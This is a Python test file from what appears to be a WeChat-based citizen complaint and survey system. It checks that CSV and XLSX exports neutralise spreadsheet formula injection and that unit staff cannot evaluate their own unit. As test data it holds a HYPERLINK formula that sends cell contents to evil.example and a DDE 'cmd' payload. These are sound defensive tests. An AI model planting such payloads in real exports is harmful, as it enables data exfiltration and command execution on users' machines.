"""The third audit (issue 8's families again): the figures that feed each unit's performance review, working days
the calendar package does not know, and the workbench as each role. Attacked through the sandbox (WeChat's
encrypted XML over real HTTP), the workbench over real HTTP and real SQLite files. Each test failed before its fix."""
from __future__ import annotations

import csv
import io

import pytest

from storage import tickets
from tests.dialog import FEES, LEADER, NUMBER, drain, file_ticket, talk
from tests.test_citizen_dialogs import PARENT, ticket

FEES_TEXT = "学校要求每个学生交300元资料费，还不给收据，我要投诉"


# -- exports: a citizen's words are never a formula ---------------------------------------------------------------
INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")学校要求每个学生交300元资料费，还不给收据'


async def test_exports_never_turn_typed_text_into_a_formula(dialog):
    """A complaint starting with = and an answer starting with @ or + stay text in the CSV and the XLSX."""
    from openpyxl import load_workbook

    from tests.test_web import browser, sign_in
    d = dialog
    number = await file_ticket(d, PARENT, INJECTED, scene="school:jn-syxx")
    await talk(d, FEES, f"办结 {number} +已责令学校退费@财务处", expect="已办结")
    async with browser(d) as s:
        await sign_in(d, s, LEADER)
        async with s.get("/w/export/tickets.csv", params={"state": "all"}) as resp:
            rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
        async with s.get("/w/export/tickets.xlsx", params={"state": "all"}) as resp:
            sheet = load_workbook(io.BytesIO(await resp.read())).active
    head = rows[0]
    row = next(r for r in rows if r[0] == number)
    assert row[head.index("内容摘要")].startswith("'=HYPERLINK")
    assert row[head.index("办理结果")].startswith("'+已责令")
    cells = next(r for r in sheet.iter_rows() if r[0].value == number)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # the words kept as typed, as text


def test_the_review_workbook_keeps_a_comment_as_text(tmp_path):
    from openpyxl import load_workbook

    from bot import review_xlsx
    from handlers import review
    from tests.dialog import TZ
    units = [{"code": "s1", "name": "=1+1学校", "kind": "school", "parent": None}]
    r = review.assemble(units, {}, {}, {}, {}, review.Weights(), "2026-11", 0, 1,
                        [{"unit_code": "s1", "author": "局长", "public": False, "text": "x"}])
    r.units[0].comments[0]["author"] = "=cmd|' /C calc'!A0"
    path = review_xlsx.write(r, tmp_path / "r.xlsx", 0, TZ)
    for ws in load_workbook(path):
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


# -- 群众评议: the unit's own staff do not evaluate it -------------------------------------------------------------
async def answer_survey(d, openid: str, scene: str = "survey:school-2026:jn-syxx") -> str:
    from tests.dialog import send
    reply = await send(d, openid, type="scan", scene=scene)
    for _ in range(12):
        if "评议完成" in reply or "第" not in reply:
            return reply
        reply = await talk(d, openid, "0" if "没有请回复 0" in reply else "5" if "1–5" in reply else "1")
    return reply


async def test_staff_cannot_evaluate_their_own_unit(dialog):
    """The school's handler and supervisor, the district bureau above it and a leader are refused; a parent is
    counted. A parent who answered and was later bound as the school's staff is left out of the figures."""
    from bot.app import DB, DISPATCHER
    from handlers.survey_results import survey_results
    from storage import staff
    from tests.dialog import DISTRICT_HEAD, SCHOOL, SCHOOL_HEAD
    d = dialog
    for insider in (SCHOOL, SCHOOL_HEAD, DISTRICT_HEAD, LEADER):
        reply = await answer_survey(d, insider)
        assert "不能参加" in reply and "评议完成" not in reply, (insider, reply)
    assert "评议完成" in await answer_survey(d, "o_parent_a")
    assert "评议完成" in await answer_survey(d, "o_parent_b")
    # o_parent_b is then bound as the school's handler (an invite redeemed in WeChat)
    code = await d.db(staff.create_invite, "jn-syxx", "handler", "新老师", d.clock.now(), 86400)
    await talk(d, "o_parent_b", f"绑定 {code}", expect="绑定")
    survey = d.app[DISPATCHER].campaign.p.surveys["school-2026"]
    results = await d.app[DB].read(survey_results, survey, d.app[DISPATCHER].campaign.p.surveys, 1)
    assert results["jn-syxx"].n == 1
